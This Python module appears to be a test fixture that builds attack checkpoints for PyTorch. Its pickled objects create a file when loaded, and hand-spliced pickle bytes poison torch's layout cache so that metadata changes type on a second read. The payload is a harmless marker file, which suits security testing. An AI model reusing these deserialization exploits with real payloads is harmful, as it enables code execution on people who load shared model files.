"""A checkpoint that is an attack: honest to look at, and code for whoever unpickles its list of contents twice."""

from __future__ import annotations

import io
import pickle
import zipfile
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import torch
from torch import Size
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import (
    BytesStorageMetadata,
    ChunkStorageMetadata,
    Metadata,
    MetadataIndex,
    TensorProperties,
    TensorStorageMetadata,
)


class _Touch:
    """Unpickled, it makes a file."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> Any:
        return Path.touch, (self.file,)


class _Twist:
    """At the first reading it is torch's layout, at the second whatever the first reading put into torch's cache."""

    def __reduce__(self) -> Any:
        return torch.serialization._get_layout, ("torch.strided",)


def simple_list(file: Path) -> bytes:
    """A list of contents that makes a file when it is unpickled."""
    return pickle.dumps(_Touch(file))


def twisted_list(shapes: Mapping[str, Sequence[int]], part: str, length: int) -> bytes:
    """Read once, all keys are tensors. Reading sets `torch.serialization._get_layout.cache`; read again, the first is bytes."""
    first = next(iter(shapes))
    info = _StorageInfo(part, 0, length)
    entries: dict[Any, Any] = {}
    where = {MetadataIndex(first): info}
    for key, shape in shapes.items():
        zero = [0] * len(shape)
        entries[key] = TensorStorageMetadata(
            TensorProperties(), Size(shape), [ChunkStorageMetadata(Size(zero), Size(shape))]
        )
        where[MetadataIndex(key, zero, 0)] = info
    entries[_Twist()] = BytesStorageMetadata()
    body = pickle.dumps(Metadata(entries, {key: tuple(key.split(".", 1)) for key in shapes}, where), 2)
    state = pickle.dumps({"cache": {"torch.strided": first}}, 2)[2:-1]
    return body[:-1] + b"ctorch.serialization\n_get_layout\n" + state + b"b0."


def evil_part(file: Path) -> bytes:
    """Bytes that `torch.load` without weights_only runs."""
    out = io.BytesIO()
    torch.save(_Touch(file), out)
    assert zipfile.is_zipfile(out)
    return out.getvalue()
